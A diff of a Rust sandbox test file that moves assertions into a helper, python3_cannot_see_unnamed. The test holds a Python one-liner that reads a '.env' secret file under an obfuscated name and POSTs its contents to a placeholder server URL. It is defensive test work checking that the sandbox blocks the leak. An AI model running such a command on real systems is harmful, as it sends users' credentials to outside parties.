@@ -1197,6 +1197,7 @@ fn exfil_python3_opening_the_secret_without_naming_it_sees_nothing() {
     // `.env` is not in the program's arguments or stdin, so it is hidden from it (the
     // name is built at run time, so no argument scan can see it). Whatever python does,
     // the secret reaches neither the server nor the output.
+    python3_cannot_see_unnamed("", ".env");
     let py = r#"python3 -c 'import urllib.request
 try:
     d = open(".e"+"nv", "rb").read()
@@ -1204,20 +1205,6 @@ except OSError:
     d = b"hidden"
 print(d.decode())
 urllib.request.urlopen("{URL}/py", data=d)'"#;
-    let a = Arena::new();
-    let r = a.run(py);
-    assert!(
-        !r.stdout.contains(SECRET_MARK) && !r.stderr.contains(SECRET_MARK),
-        "python read the unnamed secret file:\n{}",
-        r.dump()
-    );
-    let raw = a.server.raw();
-    assert!(
-        !contains(&raw, SECRET_MARK.as_bytes()),
-        "THE SECRET REACHED THE SERVER:\n{}\n{}",
-        r.dump(),
-        a.server.dump()
-    );
     // Control: an unnamed public file is visible and may be sent.
     let (a, r) = control(&py.replace(r#"".e"+"nv""#, r#""pub"+"lic.txt""#));
     assert!(r.stdout.contains("hello public world"), "{}", r.dump());
